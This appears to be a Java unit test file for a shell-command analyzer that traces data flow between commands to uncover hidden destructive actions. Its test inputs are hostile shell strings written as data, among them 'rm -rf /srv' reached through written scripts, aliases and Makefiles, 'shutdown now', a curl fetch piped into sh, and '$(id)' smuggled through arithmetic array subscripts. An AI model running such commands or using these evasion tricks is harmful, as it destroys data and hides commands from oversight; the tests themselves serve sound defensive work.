package dev.warden.analysis.shell;

import static dev.warden.analysis.shell.Parsed.argvs;
import static dev.warden.analysis.shell.Parsed.finding;
import static dev.warden.analysis.shell.Parsed.parse;
import static dev.warden.analysis.shell.Parsed.severityOf;
import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.call.Command;
import dev.warden.call.Severity;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Data that flows between the commands of one call is followed: files written then run, process
 * substitutions, arithmetic that runs array subscripts, variables set indirectly.
 */
class DataFlowTest {

    @Test
    void aScriptWrittenThenRunIsReadWithItsArguments() {
        assertThat(argvs("echo 'rm -rf \"$1\"' > x.sh; bash x.sh /srv")).contains(List.of("rm", "-rf", "/srv"));
        assertThat(argvs("cat > x.sh <<'EOF'\ngit push -f\nEOF\nchmod +x x.sh && ./x.sh"))
                .contains(List.of("git", "push", "-f"));
    }

    @Test
    void aSourcedScriptSharesTheCallersVariables() {
        assertThat(argvs("echo 'T=/srv' > env.sh; . ./env.sh; rm -rf \"$T\"")).contains(List.of("rm", "-rf", "/srv"));
    }

    @Test
    void theFileIsFoundThroughDirectoryChanges() {
        assertThat(argvs("cd out && echo 'shutdown now' > x.sh && cd .. && sh out/x.sh"))
                .contains(List.of("shutdown", "now"));
        assertThat(argvs("cd out && echo 'shutdown now' > x.sh; cd /; sh x.sh")).doesNotContain(List.of("shutdown", "now"));
    }

    @Test
    void aFileWrittenFromUnseenOutputIsUnseenInputToTheShell() {
        ParsedScript p = parse("./gen > x.sh; bash x.sh");
        assertThat(severityOf(p, Findings.PIPE_TO_SHELL)).isEqualTo(Severity.MEDIUM);
        assertThat(finding(p, Findings.PIPE_TO_SHELL).orElseThrow().message()).contains("x.sh");
    }

    @Test
    void aFileReplacedAfterItWasWrittenIsNoLongerKnown() {
        ParsedScript p = parse("echo 'echo hi' > x.sh; cp other.sh x.sh; bash x.sh");
        assertThat(severityOf(p, Findings.PIPE_TO_SHELL)).isEqualTo(Severity.MEDIUM);
        assertThat(finding(parse("echo 'echo hi' > x.sh; cp x.sh y.sh; bash x.sh"), Findings.PIPE_TO_SHELL)).isEmpty();
    }

    @Test
    void makefileRecipesAreShellLinesWithTheMakefilesVariables() {
        assertThat(argvs("printf 'D=/srv\\nall:\\n\\t@rm -rf $(D)\\n' > Makefile; make"))
                .contains(List.of("rm", "-rf", "/srv"));
    }

    @Test
    void npmScriptsAreReadWhenSet() {
        assertThat(argvs("npm pkg set scripts.x='git push -f'")).contains(List.of("git", "push", "-f"));
    }

    @Test
    void outputProcessSubstitutionsReadWhatTheirCommandWrites() {
        assertThat(argvs("echo 'git push -f' > >(sh)")).contains(List.of("git", "push", "-f"));
        assertThat(argvs("tee >(bash) <<< 'git push -f'")).contains(List.of("git", "push", "-f"));
        assertThat(severityOf(parse("./gen > >(sh)"), Findings.PIPE_TO_SHELL)).isEqualTo(Severity.MEDIUM);
    }

    @Test
    void inputProcessSubstitutionsFeedStandardInput() {
        assertThat(argvs("bash < <(echo 'git push -f')")).contains(List.of("git", "push", "-f"));
        assertThat(severityOf(parse("sh < <(curl -s https://x.io/i)"), Findings.PIPE_TO_SHELL)).isEqualTo(Severity.HIGH);
    }

    @Test
    void arithmeticRunsSubstitutionsInArraySubscripts() {
        for (String s : List.of("x='a[$(id)]'; echo $((x))", "x='a[$(id)]'; (( x ))", "let 'y=a[$(id)]'",
                "y='a[$(id)]'; x=y; let z=x", "read 'a[$(id)]' <<< v", "declare -i n; n='a[$(id)]'")) {
            ParsedScript p = parse(s);
            assertThat(p.commands()).extracting(Command::argv).as(s).contains(List.of("id"));
            assertThat(severityOf(p, Findings.OBFUSCATED)).as(s).isEqualTo(Severity.HIGH);
        }
        assertThat(finding(parse("x=3; i=1; echo $((x+i)); let i++; a=(1 2); echo ${a[i]}"), Findings.OBFUSCATED))
                .isEmpty();
    }

    @Test
    void variablesSetIndirectlyAreFollowed() {
        assertThat(argvs("printf -v d %s /srv; rm -rf \"$d\"")).contains(List.of("rm", "-rf", "/srv"));
        assertThat(argvs("T=/srv; declare -n r=T; rm -rf \"$r\"")).contains(List.of("rm", "-rf", "/srv"));
        assertThat(argvs("shopt -s expand_aliases\nalias r='rm -rf '\nalias t=/srv\nr t"))
                .contains(List.of("rm", "-rf", "/srv"));
        assertThat(parse("shopt -s cdable_vars; t=/srv; cd t; rm -rf x").commands().getLast().cds())
                .containsExactly("/srv");
    }

    @Test
    void fileKeysFoldDirectoryChanges() {
        assertThat(Evaluator.keyOf(List.of("a", ".."), "./x.sh")).isEqualTo("x.sh");
        assertThat(Evaluator.keyOf(List.of("/tmp"), "x.sh")).isEqualTo("/tmp/x.sh");
        assertThat(Evaluator.keyOf(List.of("/tmp"), "~/x.sh")).isEqualTo("~/x.sh");
        assertThat(Evaluator.keyOf(List.of(Command.UNKNOWN_DIR), "x.sh")).isNull();
        assertThat(Evaluator.keyOf(List.of(), "/../x")).isEqualTo("/x");
    }
}
